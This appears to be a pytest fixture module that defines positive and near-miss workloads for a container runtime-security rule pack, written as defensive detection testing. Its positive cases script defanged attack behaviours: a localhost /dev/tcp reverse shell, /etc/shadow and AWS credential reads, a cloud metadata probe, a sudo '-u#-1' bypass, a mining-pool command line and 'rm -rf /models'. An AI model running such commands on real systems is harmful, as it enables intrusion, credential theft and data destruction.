"""Live workloads for the default rule pack: every rule's positive and benign near-miss.

Each case is a Python script run as the init of a fresh runc container (host Python, busybox
rootfs, the SDK socket bound in, declared an AI workload by its ``runwatch.io/role``
annotation, ``model-server`` unless the case says otherwise) or, where the point is that the
same act on the host is fine, as a host process. ``PORT`` in the environment is a TCP listener on 127.0.0.1 (the
containers share the host network namespace).

The identity rules need more than one container can say alone, given as case options:
``svid`` (``("valid" | "forged", spiffe_id)``) binds a fake SPIRE agent's Workload API socket
serving that SVID (issued by the test CA, or self-signed) at ``/run/spire`` and the capture
verifies reports against the test CA's bundle; ``pod`` (see :func:`_pod`) gives the container
Kubernetes facts through the enrichment's pod index, as the pod watch would; ``tokens`` binds
token files at ``/run/secrets/tokens``; ``twin`` runs the same script first in a second
container (with those options changed), whose events belong to the case too.

The session fixture ``rulepack_live`` starts one pipeline (kernel sensor with the extra
watches the pack needs + SDK collector -> enrichment -> tool-call join), runs every case once,
and hands each case its own events (those attributed to its container, or to its host
process) together with the JSONL file they were recorded to. Tests taking ``live_case`` are
parametrized over :data:`CASES` (``pytest_generate_tests``).
"""

from __future__ import annotations

import gzip
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from runwatch.containers.oci import Bind
from runwatch.containers.rootfs import Rootfs
from runwatch.containers.runc import RuncContainer
from runwatch.enrich.k8s import ContainerFacts, PodFacts, PodIndex
from runwatch.enrich.roles import ROLE_LABEL
from runwatch.events import Event
from runwatch.outputs.jsonl import JsonlOutput
from runwatch.sensors.kernel import watchlist
from runwatch.sensors.kernel.layout import WatchFlag
from runwatch.svid.bundles import TrustBundles
from runwatch.testing import probes
from runwatch.testing.capture import LiveCapture, require_kernel_sensor
from runwatch.testing.spire import FakeSpireAgent, TestCA, self_signed_svid
from runwatch.testing.workloads import accepting_listener

FIXTURES = Path(__file__).parent / "fixtures"
RECORD_ENV = "RUNWATCH_RECORD_RULEPACK_FIXTURES"
"""Set to 1 to (re)write the committed replay fixtures from the live run."""

SDK_DIR_IN_CONTAINER = "/run/runwatch-sdk"
SPIRE_DIR_IN_CONTAINER = "/run/spire"
TOKENS_DIR_IN_CONTAINER = "/run/secrets/tokens"
TRUST_DOMAIN = "cluster.local"
"""The test CA's trust domain: that of the ids derived from Kubernetes facts, so the two compare."""

#: Watches the pack needs beyond the sensor's default list (see docs/rulepack.md).
EXTRA_WATCHES: tuple[watchlist.Watch, ...] = (
    watchlist.Watch("/dev/nvidia", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/dev/dri/", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/dev/kfd", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/var/run/docker.sock", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/run/docker.sock", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/run/containerd/containerd.sock", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/var/run/containerd/containerd.sock", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/run/crio/crio.sock", WatchFlag.READ | WatchFlag.WRITE),
    watchlist.Watch("/sys/fs/cgroup/", WatchFlag.WRITE),
    watchlist.Watch("/etc/ld.so.preload", WatchFlag.WRITE),
    watchlist.Watch("/etc/group", WatchFlag.WRITE),
    watchlist.Watch("/usr/lib/", WatchFlag.WRITE),
    watchlist.Watch("/usr/local/sbin/", WatchFlag.WRITE),
)

PRELUDE = textwrap.dedent("""
    import ctypes, os, shutil, socket, subprocess, sys, time
    from runwatch import sdk
    libc = ctypes.CDLL(None, use_errno=True)
    PORT = int(os.environ.get("PORT", "9"))

    def udp_connect(ip, port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.connect((ip, port))
        except OSError:
            pass
        s.close()

    def try_open(path, mode="r"):
        try:
            open(path, mode).close()
        except OSError:
            pass

    def dns_query(name):
        # One A question to the container's resolver (127.0.0.1:53), sent once, no retries.
        q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        header = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
        s.sendto(header + q + b"\\x00\\x01\\x00\\x01", ("127.0.0.1", 53))
        s.close()

    def try_link(src, dst):
        try:
            os.link(src, dst)
        except OSError:
            pass

    def try_unlink(path):
        try:
            os.unlink(path)
        except OSError:
            pass

    def capset(effective):
        hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
        data = (ctypes.c_uint32 * 6)(effective, effective, 0, 0, 0, 0)
        libc.capset(hdr, data)

    def wget(out):
        url = f"http://127.0.0.1:{PORT}/x"
        subprocess.run(["wget", "-q", "--tries=1", "-T", "2", "-O", out, url], capture_output=True, timeout=20)

    def drop_binary(path):
        shutil.copy("/usr/bin/true", path)
        os.chmod(path, 0o755)
""") + probes.PROBES



@dataclass(frozen=True)
class Case:
    """One workload: the rule it is about (None: a benign workload that must raise nothing)."""

    name: str
    rule: str | None
    positive: bool
    script: str
    options: dict[str, Any] = field(default_factory=dict)
    host: bool = False
    argv: tuple[str, ...] = ()  # run this instead of python3 -c PRELUDE+script
    exact: tuple[str, ...] | None = None  # every rule the workload must raise, no more (sorted)
    tag: str = ""  # told apart from the rule's other positive or near-miss in the fixture name

    @property
    def code(self) -> str:
        """The full script: the shared helpers, then this case's lines.

        SDK workloads stay alive a moment after their last message: the collector reads the
        sender's cgroup from /proc when the datagram arrives, and a sender that has already
        exited leaves its SDK events without a container.
        """
        linger = "\ntime.sleep(0.5)\n" if self.uses_sdk else ""
        return PRELUDE + textwrap.dedent(self.script) + linger

    @property
    def uses_sdk(self) -> bool:
        """Whether the workload talks to the SDK collector."""
        return "sdk." in self.script

    @property
    def python(self) -> str:
        """The interpreter: this one (with the ``spiffe`` package) for SVID reports, else the rootfs's."""
        return sys.executable if "identity.report_svid" in self.script else "python3"


SECRET = {"api_key": b"sk-live-not-a-real-key-23"}
UID1000 = {"uid": 1000}

MEMFD_EXEC = """
    fd = os.memfd_create("payload")
    os.write(fd, open("/usr/bin/true", "rb").read())
    pid = os.fork()
    if pid == 0:
        os.execve(fd, ["payload"], {})
    os.waitpid(pid, 0)
"""

MEMFD_BUFFER = """
    fd = os.memfd_create("buffer")
    os.write(fd, b"scratch data")
    os.lseek(fd, 0, 0)
    assert os.read(fd, 7) == b"scratch"
    subprocess.run(["/usr/bin/true"])
"""

REVERSE_SHELL = """
    s = socket.create_connection(("127.0.0.1", PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])
"""

HTTP_SERVER = """
    import http.server, threading, urllib.request
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    srv.RequestHandlerClass.log_message = lambda *a: None
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    port = srv.server_address[1]
    for _ in range(7):
        assert urllib.request.urlopen(f"http://127.0.0.1:{port}/etc/hostname").status == 200
    srv.shutdown()
"""

CONFIG_READER = """
    import json
    key = open("/run/secrets/api_key").read()
    host = open("/etc/hostname").read()
    with open("/tmp/app.json", "w") as f:
        json.dump({"workers": 3, "model": "small"}, f)
    cfg = json.load(open("/tmp/app.json"))
    assert cfg["workers"] == 3 and key and host
"""

AGENT_LOOP = """
    sdk.announce("benign-agent")
    for i in range(5):
        with sdk.prompt_route("operator"):
            sdk.model_call("openai", "gpt-4o-mini")
            with sdk.tool_call("web_search", call_id=f"s{i}", agent="benign-agent"):
                socket.create_connection(("127.0.0.1", PORT)).close()
            with sdk.tool_call("calculator", call_id=f"c{i}", agent="benign-agent"):
                sum(range(1000))
    sdk.flush(2.0)
"""

PLANNER_ID = f"spiffe://{TRUST_DOMAIN}/ns/shop/sa/planner"

#: The agent fetches its SVID from the Workload API at /run/spire and reports it; what follows
#: happens once the collector has checked the sender and the SVID is attested (or rejected).
REPORT_SVID = textwrap.dedent(f"""
    from runwatch.sdk import identity
    assert identity.report_svid() == {PLANNER_ID!r}, identity.last_error
    sdk.flush(2.0)
    time.sleep(1.5)
""")


def _pod(pod: str, container: str, *, namespace: str = "shop", service_account: str = "planner",
         owner: tuple[str, str] | None = None, annotations: dict[str, str] | None = None) -> dict[str, Any]:
    """The ``pod`` option: the container is ``container`` of pod ``namespace/pod``."""
    return {"name": pod, "namespace": namespace, "service_account": service_account, "container": container,
            "owner": owner, "annotations": annotations or {}}


VALID_SVID = ("valid", PLANNER_ID)
FORGED_SVID = ("forged", PLANNER_ID)
TOKEN = {"vault-token": b"hvs.not-a-real-token-23", "istio-token": b"eyJ-not-a-real-token-23"}
REPLICA = ("ReplicaSet", "planner-7d")

#: Workload identity (SPIFFE) and non-human identity checks (identity.yaml).
IDENTITY_CASES: tuple[Case, ...] = (
    Case("svid-forged-pos", "spiffe_svid_rejected", True, REPORT_SVID, {"svid": FORGED_SVID}),
    Case("svid-forged-neg", "spiffe_svid_rejected", False, REPORT_SVID, {"svid": VALID_SVID}),
    Case("svid-mismatch-pos", "spiffe_attested_mismatch", True, REPORT_SVID,
         {"svid": VALID_SVID, "pod": _pod("etl-1", "planner", namespace="batch", service_account="etl")}),
    Case("svid-mismatch-neg", "spiffe_attested_mismatch", False, REPORT_SVID,
         {"svid": VALID_SVID, "pod": _pod("planner-1", "planner")}),
    # two containers without Kubernetes facts are two workloads; two replicas of one controller are one
    Case("svid-reused-pos", "spiffe_identity_reused", True, REPORT_SVID, {"svid": VALID_SVID, "twin": {}}),
    Case("svid-reused-neg", "spiffe_identity_reused", False, REPORT_SVID,
         {"svid": VALID_SVID, "pod": _pod("planner-1", "planner", owner=REPLICA),
          "twin": {"pod": _pod("planner-2", "planner", owner=REPLICA)}}),
    Case("static-secret-pos", "static_secret_with_spiffe_identity", True,
         REPORT_SVID + "open('/run/secrets/api_key').read()\n", {"svid": VALID_SVID, "secrets": SECRET}),
    Case("static-secret-neg", "static_secret_with_spiffe_identity", False, "open('/run/secrets/api_key').read()",
         {"secrets": SECRET, "pod": _pod("planner-1", "planner")}),
    Case("agent-secret-pos", "agent_secret_read_outside_tool_call", True, """
        sdk.secret_access("GITHUB_TOKEN", "env")
        sdk.flush(2.0)
    """, {"annotations": {ROLE_LABEL: "agent"}}),
    Case("agent-secret-neg", "agent_secret_read_outside_tool_call", False, """
        with sdk.tool_call("web_search", call_id="g1", agent="planner"):
            sdk.secret_access("GITHUB_TOKEN", "env")
        sdk.flush(2.0)
    """, {"annotations": {ROLE_LABEL: "agent"}}),
    Case("sidecar-token-pos", "sidecar_reads_token_it_does_not_own", True,
         "open('/run/secrets/tokens/vault-token').read()",
         {"annotations": {ROLE_LABEL: "sidecar"}, "tokens": TOKEN,
          "pod": _pod("shop-1", "logs", annotations={"runwatch.io/token-owner": "app"})}),
    Case("sidecar-token-neg", "sidecar_reads_token_it_does_not_own", False,
         "open('/run/secrets/tokens/istio-token').read()",
         {"annotations": {ROLE_LABEL: "sidecar"}, "tokens": TOKEN,
          "pod": _pod("shop-1", "istio-proxy", annotations={"runwatch.io/token-owner": "app, istio-proxy"})}),
)


def _changed(path: str) -> str:
    """A workload line that tries to write ``path`` (on the read-only rootfs the open fails,
    and a failed open is reported by the path it was given)."""
    return f"try_open({path!r}, 'a')"


SPOOF_RUNTIME_INIT = """
    # Looks like runc's init by every name (argv "init", comm runc:[2:INIT]) but is python.
    open("/tmp/init", "w").write(
        "import ctypes\\n"
        "libc = ctypes.CDLL(None)\\n"
        "libc.prctl(15, b'runc:[2:INIT]', 0, 0, 0)\\n"
        "libc.unshare(0x00020000)\\n")
    subprocess.run(["/usr/sbin/runc", "init"], executable=sys.executable, cwd="/tmp", check=True,
                   env={**os.environ, "PYTHONHOME": sys.base_prefix})
    os.unlink("/tmp/init")
"""

HIDDEN_EXEC = """
    d = f"/tmp/.rw-hidden-{os.getpid()}"
    os.makedirs(d, exist_ok=True)
    drop_binary(f"{d}/update-helper")
    os.execv(f"{d}/update-helper", ["update-helper"])
"""

VISIBLE_EXEC = """
    d = f"/tmp/rw-visible-{os.getpid()}"
    os.makedirs(d, exist_ok=True)
    drop_binary(f"{d}/tool")
    os.execv(f"{d}/tool", ["tool"])
"""

FD_EXEC = """
    pid = os.fork()
    if pid == 0:
        {how}
    os.waitpid(pid, 0)
"""

# A stand-in for a system tool (a copy of true under the tool's name), run in place of this
# host process so its exec is this case's own.
#: An interactive bash at a terminal (a pty) runs one command and exits, saving its history the
#: way bash does: the file opened with O_TRUNC and rewritten.
INTERACTIVE_BASH_EXIT = """
    import pty
    os.makedirs('/tmp/rw-h', exist_ok=True)
    pid, fd = pty.fork()
    if pid == 0:
        os.execve('/usr/bin/bash', ['bash', '--norc', '-i'],
                  {'HISTFILE': '/tmp/rw-h/.bash_history', 'HOME': '/tmp/rw-h', 'PATH': '/usr/bin:/bin'})
    os.write(fd, b'echo rw-history\\nexit\\n')
    while True:
        try:
            if not os.read(fd, 4096):
                break
        except OSError:
            break
    os.waitpid(pid, 0)
    assert os.path.getsize('/tmp/rw-h/.bash_history') > 0, "bash saved no history"
"""

HOST_TOOL = """
    d = f"/tmp/rw-tools-{{os.getpid()}}"
    os.makedirs(d, exist_ok=True)
    drop_binary(f"{{d}}/{tool}")
    os.execv(f"{{d}}/{tool}", ["{tool}", {args}])
"""

HOST_BASHRC = """
    d = f"/tmp/rw-home-{os.getpid()}"
    os.makedirs(d, exist_ok=True)
    open(f"{d}/.bashrc", "a").write("export EDITOR=vi\\n")
    shutil.rmtree(d)
"""


def _g(name: str, rule: str, positive: bool, script: str, *, host: bool = False, tag: str = "",
       options: dict[str, Any] | None = None) -> Case:
    """A case of the general pack: it raises exactly its rule (positive) or nothing (near-miss)."""
    return Case(name, rule, positive, script, options or {}, host=host, exact=(rule,) if positive else (), tag=tag)


#: The general (non-AI) pack: persistence, privilege, defence evasion, discovery, impact, lateral movement.
GENERAL_CASES: tuple[Case, ...] = (
    _g("cron-pos", "cron_job_modified", True, _changed("/etc/cron.d/rw-job")),
    _g("cron-neg", "cron_job_modified", False, _changed("/etc/cronos.conf")),
    _g("unit-pos", "systemd_unit_written", True, _changed("/etc/systemd/system/rw-helper.service")),
    _g("unit-neg", "systemd_unit_written", False, _changed("/etc/systemd/system/README.txt")),
    _g("profile-pos", "shell_profile_modified_in_container", True, _changed("/root/.bashrc")),
    _g("profile-neg", "shell_profile_modified_in_container", False, HOST_BASHRC, host=True),
    _g("authkeys-pos", "ssh_authorized_keys_modified", True, _changed("/root/.ssh/authorized_keys")),
    _g("authkeys-neg", "ssh_authorized_keys_modified", False, _changed("/root/.ssh/known_hosts")),
    _g("pam-pos", "pam_config_modified", True, _changed("/etc/pam.d/rw-test")),
    _g("pam-neg", "pam_config_modified", False, _changed("/etc/pamphlet.txt")),
    _g("adduser-pos", "account_created_in_container", True,
       "subprocess.run(['/usr/sbin/useradd', '-M', 'rw23'], capture_output=True)"),
    _g("adduser-neg", "account_created_in_container", False,
       "subprocess.run(['/usr/sbin/useradd', '--help'], capture_output=True)"),
    _g("suidbit-pos", "setuid_bit_set", True, "drop_binary('/tmp/rw-s'); os.chmod('/tmp/rw-s', 0o4755)"),
    _g("suidbit-neg", "setuid_bit_set", False, "drop_binary('/tmp/rw-s'); os.chmod('/tmp/rw-s', 0o750)"),
    _g("history-pos", "shell_history_deleted", True, "try_unlink('/root/.bash_history')"),
    _g("history-link-pos", "shell_history_deleted", True,
       "os.makedirs('/tmp/rw-h', exist_ok=True); os.symlink('/dev/null', '/tmp/rw-h/.bash_history')", tag="link"),
    _g("history-neg", "shell_history_deleted", False,
       "os.makedirs('/tmp/rw-h', exist_ok=True); open('/tmp/rw-h/.bash_history', 'a').write('id\\n')"),
    _g("histtrunc-pos", "shell_history_truncated", True,
       "os.makedirs('/tmp/rw-h', exist_ok=True); open('/tmp/rw-h/.bash_history', 'w').close()"),
    _g("histtrunc-neg", "shell_history_truncated", False, INTERACTIVE_BASH_EXIT, options={"annotations": {}}),
    _g("syslog-pos", "system_log_deleted", True,
       "open('/var/log/auth.log', 'a').write('sshd: accepted\\n'); os.unlink('/var/log/auth.log')",
       options={"rw_dirs": ("/var/log",)}),
    _g("syslog-neg", "system_log_deleted", False,
       "os.makedirs('/var/log/rw-app'); open('/var/log/rw-app/app.log.3', 'a').write('ok\\n'); "
       "os.unlink('/var/log/rw-app/app.log.3')", options={"rw_dirs": ("/var/log",)}),
    _g("touch-pos", "timestomp_in_container", True,
       "subprocess.run(['touch', '-d', '2020-01-01 00:00', '/tmp/rw-t'], check=True); os.unlink('/tmp/rw-t')"),
    _g("touch-neg", "timestomp_in_container", False,
       "subprocess.run(['touch', '/tmp/rw-t'], check=True); os.unlink('/tmp/rw-t')"),
    _g("kthread-pos", "kernel_thread_masquerade", True,
       "subprocess.run(['[kworker/0:2]'], executable='/usr/bin/true', check=True)"),
    _g("kthread-neg", "kernel_thread_masquerade", False,
       "subprocess.run(['/usr/bin/echo', '[ok]'], capture_output=True, check=True)"),
    _g("hidden-pos", "exec_from_hidden_directory", True, HIDDEN_EXEC, host=True),
    _g("hidden-neg", "exec_from_hidden_directory", False, VISIBLE_EXEC, host=True),
    _g("discovery-pos", "discovery_command_from_model_server", True,
       "subprocess.run(['id'], capture_output=True, check=True)"),
    _g("discovery-neg", "discovery_command_from_model_server", False,
       "import platform; platform.processor(); subprocess.run(['uname', '-p'], capture_output=True)"),
    _g("rmrf-pos", "destructive_delete_command", True, "subprocess.run(['rm', '-rf', '/models'], check=True)"),
    _g("rmrf-neg", "destructive_delete_command", False,
       "os.makedirs('/tmp/rw-build/x', exist_ok=True); subprocess.run(['rm', '-rf', '/tmp/rw-build'], check=True)"),
    _g("miner-pos", "cryptominer_command_line", True,
       "subprocess.run(['systemd-helper', '-o', 'stratum+tcp://127.0.0.1:3333'], executable='/usr/bin/true')"),
    _g("miner-neg", "cryptominer_command_line", False,
       "subprocess.run(['fetch', '-o', '/tmp/x', 'https://pool.example.com/f'], executable='/usr/bin/true')"),
    _g("pooldns-pos", "dns_query_to_mining_pool", True, "dns_query('RW23.Pool.SupportXMR.com')"),
    _g("pooldns-neg", "dns_query_to_mining_pool", False, "dns_query('supportxmr.com.example.org')"),
    _g("lateral-pos", "internal_remote_service_connect_from_ai_workload", True, "tcp_try('10.255.255.1', 445)"),
    _g("lateral-neg", "internal_remote_service_connect_from_ai_workload", False, "tcp_try('10.255.255.1', 8080)"),
    _g("ldso-pos", "exec_through_elf_loader", True,
       "subprocess.run(['/lib64/ld-linux-x86-64.so.2', '/usr/bin/true'], check=True)"),
    _g("ldso-neg", "exec_through_elf_loader", False, "subprocess.run(['/usr/bin/ldd', '/usr/bin/true'], check=True, "
       "capture_output=True)", host=True),
    _g("fdexec-pos", "exec_through_file_descriptor", True,
       FD_EXEC.format(how='os.execve(os.open("/usr/bin/true", os.O_RDONLY), ["true"], {})')),
    _g("fdexec-neg", "exec_through_file_descriptor", False, FD_EXEC.format(how='os.execv("/usr/bin/true", ["true"])')),
    _g("hardlink-pos", "system_binary_hard_linked_elsewhere", True, "try_link('/usr/bin/true', '/tmp/rw-update')"),
    _g("hardlink-neg", "system_binary_hard_linked_elsewhere", False,
       "open('/tmp/rw-a', 'w').close(); try_link('/tmp/rw-a', '/tmp/rw-b')"),
    _g("sudo-pos", "sudo_privilege_bypass_arguments", True, HOST_TOOL.format(tool="sudo", args='"-u#-1", "id"'),
       host=True),
    _g("sudo-neg", "sudo_privilege_bypass_arguments", False,
       HOST_TOOL.format(tool="sudo", args='"-u", "www-data", "id"'), host=True),
    _g("setcap-pos", "dangerous_file_capability_set", True,
       HOST_TOOL.format(tool="setcap", args='"cap_setuid+ep", "/tmp/rw-python3"'), host=True),
    _g("setcap-neg", "dangerous_file_capability_set", False,
       HOST_TOOL.format(tool="setcap", args='"cap_net_bind_service=+ep", "/srv/app"'), host=True),
    _g("encrypt-pos", "file_encryption_in_container", True,
       "drop_binary('/opt/rw/openssl'); subprocess.run(['/opt/rw/openssl', 'enc', '-aes-256-cbc', '-in', "
       "'/etc/hostname', '-out', '/tmp/h.enc'], check=True)", options={"rw_dirs": ("/opt/rw",)}),
    _g("encrypt-neg", "file_encryption_in_container", False,
       "drop_binary('/opt/rw/openssl'); subprocess.run(['/opt/rw/openssl', 'x509', '-noout', '-in', "
       "'/etc/hostname'], check=True)", options={"rw_dirs": ("/opt/rw",)}),
    Case("runc-spoof-pos", "namespace_change_in_container", True, SPOOF_RUNTIME_INIT,
         exact=("namespace_change_in_container",), tag="spoofed-init"),
)

CASES: tuple[Case, ...] = (
    Case("shell-pos", "shell_spawned_by_model_server", True, "subprocess.run(['/bin/sh', '-c', '/usr/bin/true'])"),
    Case("shell-neg", "shell_spawned_by_model_server", False, "subprocess.run(['/usr/bin/true'])"),
    Case("toolshell-pos", "shell_in_tool_call", True, """
        with sdk.tool_call("run_code", call_id="k1", agent="coder"):
            subprocess.run(["/bin/sh", "-c", "/usr/bin/true"])
        sdk.flush(2.0)
    """),
    Case("toolshell-neg", "shell_in_tool_call", False, """
        with sdk.tool_call("run_code", call_id="k1", agent="coder"):
            subprocess.run(["/usr/bin/true"])
        sdk.flush(2.0)
    """),
    Case("untrusted-pos", "untrusted_input_then_shell_in_tool_call", True, """
        with sdk.prompt_route("web"):
            with sdk.tool_call("summarize_page", call_id="u1", agent="browser"):
                subprocess.run(["/bin/sh", "-c", "/usr/bin/true"])
        sdk.flush(2.0)
    """),
    Case("untrusted-neg", "untrusted_input_then_shell_in_tool_call", False, """
        with sdk.prompt_route("operator"):
            with sdk.tool_call("summarize_page", call_id="u1", agent="browser"):
                subprocess.run(["/bin/sh", "-c", "/usr/bin/true"])
        sdk.flush(2.0)
    """),
    Case("inline-pos", "interpreter_inline_code_from_model_server", True,
         "subprocess.run([sys.executable, '-c', 'print(23)'])"),
    Case("inline-neg", "interpreter_inline_code_from_model_server", False, """
        import multiprocessing
        p = multiprocessing.get_context("spawn").Process(target=abs, args=(-23,))
        p.start(); p.join()
        assert p.exitcode == 0
    """),
    Case("memfd-pos", "memfd_create_then_exec", True, MEMFD_EXEC),
    Case("memfd-neg", "memfd_create_then_exec", False, MEMFD_BUFFER),
    Case("tmpexec-pos", "exec_from_temp_location", True,
         "drop_binary('/tmp/.x'); subprocess.run(['/tmp/.x'])"),
    Case("tmpexec-neg", "exec_from_temp_location", False,
         "drop_binary('/tmp/.x'); subprocess.run(['/usr/bin/true'])"),
    Case("download-pos", "download_then_exec", True, """
        wget("/tmp/dl")
        drop_binary("/tmp/dl"); subprocess.run(["/tmp/dl"])
    """),
    Case("download-neg", "download_then_exec", False, """
        wget("/tmp/dl")
        subprocess.run(["/usr/bin/true"])
    """),
    Case("chmod-pos", "chmod_then_exec_new_file", True,
         "drop_binary('/tmp/p'); subprocess.run(['chmod', '+x', '/tmp/p']); subprocess.run(['/tmp/p'])"),
    Case("chmod-neg", "chmod_then_exec_new_file", False,
         "drop_binary('/tmp/p'); subprocess.run(['chmod', '644', '/tmp/p']); subprocess.run(['/usr/bin/true'])"),
    Case("revcmd-pos", "reverse_shell_cmdline", True,
         "subprocess.run(['/bin/sh', '-c', f'echo hi > /dev/tcp/127.0.0.1/{PORT} || true'], capture_output=True)"),
    Case("revcmd-neg", "reverse_shell_cmdline", False,
         "subprocess.run(['/bin/sh', '-c', 'echo hi > /dev/null'])"),
    Case("revsock-pos", "connect_then_shell_exec", True, REVERSE_SHELL),
    Case("revsock-neg", "connect_then_shell_exec", False, """
        socket.create_connection(("127.0.0.1", PORT)).close()
        subprocess.run(["/bin/sh", "-c", "exit 0"])
    """),
    Case("pip-pos", "package_install_at_runtime", True,
         "subprocess.run(['/usr/bin/pip', 'install', '--no-index', '-q', 'rw-no-such-pkg-23'], capture_output=True)"),
    Case("pip-neg", "package_install_at_runtime", False,
         "subprocess.run(['/usr/bin/pip', '--version'], capture_output=True)"),
    Case("setuid-pos", "setuid_root_by_non_root", True, """
        try:
            os.setuid(0)
        except PermissionError:
            pass
    """, UID1000),
    Case("setuid-neg", "setuid_root_by_non_root", False, "os.setuid(1000)", UID1000),
    Case("suidbin-pos", "setuid_binary_executed_in_container", True,
         "subprocess.run(['/usr/bin/su', '--help'], capture_output=True)", UID1000),
    Case("suidbin-neg", "setuid_binary_executed_in_container", False,
         "subprocess.run(['/usr/bin/id'], capture_output=True)", UID1000),
    Case("capset-pos", "capabilities_raised_by_non_root", True, "capset(1 << 21)", UID1000),
    Case("capset-neg", "capabilities_raised_by_non_root", False, "capset(0)", UID1000),
    Case("ptrace-pos", "ptrace_attach", True, "ptrace_child([])"),
    Case("ptrace-neg", "ptrace_attach", False, """
        child = os.fork()
        if child == 0:
            libc.ptrace(0, 0, None, None)
            os._exit(0)
        os.waitpid(child, 0)
    """),
    Case("poke-pos", "ptrace_memory_write", True, "ptrace_child([5])"),
    Case("poke-neg", "ptrace_memory_write", False, "ptrace_child([2])"),
    Case("nsenter-pos", "namespace_tool_in_container", True,
         "subprocess.run(['/usr/bin/nsenter', '-t', '1', '-m', '/usr/bin/true'], capture_output=True)"),
    Case("nsenter-neg", "namespace_tool_in_container", False,
         "subprocess.run(['/usr/bin/ls', '/proc/1/ns'], capture_output=True)"),
    Case("unshare-pos", "namespace_change_in_container", True, "libc.unshare(0x00020000)"),
    Case("unshare-neg", "namespace_change_in_container", False, "os.readlink('/proc/self/ns/mnt')"),
    Case("mount-pos", "sensitive_mount_in_container", True,
         "libc.mount(b'cgroup', b'/rw-no-such-dir', b'cgroup', 0, b'rdma')", {"sys_admin": True}),
    Case("mount-neg", "sensitive_mount_in_container", False,
         "libc.mount(b'scratch', b'/rw-no-such-dir', b'tmpfs', 0, None)", {"sys_admin": True}),
    Case("release-pos", "release_agent_write", True, "try_open('/sys/fs/cgroup/rdma/release_agent', 'w')"),
    Case("release-neg", "release_agent_write", False, "try_open('/sys/fs/cgroup/rdma/cgroup.procs', 'w')"),
    Case("sock-pos", "container_runtime_socket_access", True, "try_open('/var/run/docker.sock')"),
    Case("sock-neg", "container_runtime_socket_access", False, "try_open('/var/run/docker.sock')", host=True),
    Case("bindir-pos", "write_below_binary_dir", True, "try_open('/usr/local/bin/rw-planted', 'w')"),
    Case("bindir-neg", "write_below_binary_dir", False,
         "open('/usr/bin/true', 'rb').read(); try_open('/tmp/rw-scratch', 'w')"),
    Case("passwd-pos", "system_auth_file_modified", True, "try_open('/etc/passwd', 'a')"),
    Case("passwd-neg", "system_auth_file_modified", False, "open('/etc/passwd').read()"),
    Case("shadow-pos", "shadow_file_read", True, "try_open('/etc/shadow')"),
    Case("shadow-neg", "shadow_file_read", False,
         "subprocess.run(['/usr/bin/passwd', '-S', 'root'], capture_output=True)"),
    Case("egress-pos", "secret_read_then_new_egress", True,
         "open('/run/secrets/api_key').read(); udp_connect('1.1.1.1', 443)", {"secrets": SECRET}),
    Case("egress-neg", "secret_read_then_new_egress", False,
         "open('/run/secrets/api_key').read(); socket.create_connection(('127.0.0.1', PORT)).close()",
         {"secrets": SECRET}),
    Case("secretcat-pos", "secret_read_by_unexpected_process", True,
         "subprocess.run(['cat', '/run/secrets/api_key'], capture_output=True)", {"secrets": SECRET}),
    Case("secretcat-neg", "secret_read_by_unexpected_process", False,
         "open('/run/secrets/api_key').read()", {"secrets": SECRET}),
    Case("credfile-pos", "credential_file_read", True, "try_open('/root/.aws/credentials')"),
    Case("credfile-neg", "credential_file_read", False, "try_open('/root/.aws/config')"),
    Case("credsearch-pos", "credential_search_command", True,
         "subprocess.run(['find', '/run', '-name', 'id_rsa'], capture_output=True)"),
    Case("credsearch-neg", "credential_search_command", False,
         "subprocess.run(['find', '/run', '-name', '*.log'], capture_output=True)"),
    Case("imds-pos", "cloud_metadata_access", True, "tcp_try('169.254.169.254', 80)"),
    Case("imds-neg", "cloud_metadata_access", False, "udp_connect('169.254.169.253', 53)"),
    Case("tool-pos", "unapproved_tool_executed", True, """
        with sdk.tool_call("shell_exec", call_id="t1", agent="planner"):
            pass
        sdk.flush(2.0)
    """),
    Case("tool-neg", "unapproved_tool_executed", False, """
        with sdk.tool_call("web_search", call_id="t2", agent="planner"):
            pass
        sdk.flush(2.0)
    """),
    Case("plugin-egress-pos", "plugin_load_then_new_external_endpoint", True, """
        sdk.plugin_load("weather-mcp", "/opt/mcp/weather", sha256="ab" * 32)
        sdk.flush(2.0); time.sleep(0.3)
        udp_connect("1.1.1.1", 443)
    """),
    Case("plugin-egress-neg", "plugin_load_then_new_external_endpoint", False, """
        sdk.plugin_load("weather-mcp", "/opt/mcp/weather", sha256="ab" * 32)
        sdk.flush(2.0); time.sleep(0.3)
        socket.create_connection(("127.0.0.1", PORT)).close()
    """),
    Case("plugin-src-pos", "plugin_loaded_from_unverified_source", True, """
        sdk.plugin_load("notes", "https://203.0.113.4/notes.py")
        sdk.flush(2.0)
    """),
    Case("plugin-src-neg", "plugin_loaded_from_unverified_source", False, """
        sdk.plugin_load("notes", "/opt/plugins/notes.py", sha256="ab" * 32)
        sdk.flush(2.0)
    """),
    Case("gpu-pos", "gpu_device_access_by_unexpected_process", True,
         "subprocess.run(['cat', '/dev/nvidia0'], capture_output=True)"),
    Case("gpu-neg", "gpu_device_access_by_unexpected_process", False, "try_open('/dev/nvidia0')"),
    Case("dns-pos", "dns_query_to_exfiltration_service", True, """
        try:
            socket.getaddrinfo("rw23.oast.fun", 443)
        except OSError:
            pass
    """),
    Case("dns-neg", "dns_query_to_exfiltration_service", False, """
        try:
            socket.getaddrinfo("pypi.org", 443)
        except OSError:
            pass
    """),
